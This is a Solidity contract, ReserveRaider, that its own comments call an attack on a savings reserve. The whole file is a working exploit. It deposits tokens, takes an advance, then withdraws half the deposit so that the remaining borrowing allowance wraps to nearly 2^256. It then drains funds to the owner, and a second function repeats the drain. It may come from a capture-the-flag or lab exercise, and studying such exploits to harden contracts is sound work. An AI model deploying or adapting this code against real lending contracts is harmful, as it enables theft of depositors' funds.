// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface ISavingsReserve {
    function deposit(uint256 amount) external;
    function withdraw(uint256 amount) external;
    function advance(uint256 amount) external;
}

/// @title The attack on the reserve.
/// @dev With the advance taken and half of the deposit withdrawn again, the advance exceeds half of the deposit, and what may still be taken
/// falls below zero: to almost 2^256.
contract ReserveRaider {
    address private immutable _owner = msg.sender;
    ISavingsReserve private immutable _reserve;
    IERC20 private immutable _dollar;

    constructor(ISavingsReserve reserve, IERC20 dollar) {
        _reserve = reserve;
        _dollar = dollar;
    }

    function strike(uint256 amount) external {
        require(msg.sender == _owner);
        uint256 stake = _dollar.balanceOf(address(this));
        _dollar.approve(address(_reserve), stake);
        _reserve.deposit(stake);
        _reserve.advance(stake / 2);
        _reserve.withdraw(stake / 2);
        _reserve.advance(amount);
        _dollar.transfer(_owner, _dollar.balanceOf(address(this)));
    }

    /// @dev The way is open already.
    function again(uint256 amount) external {
        require(msg.sender == _owner);
        _reserve.advance(amount);
        _dollar.transfer(_owner, amount);
    }
}
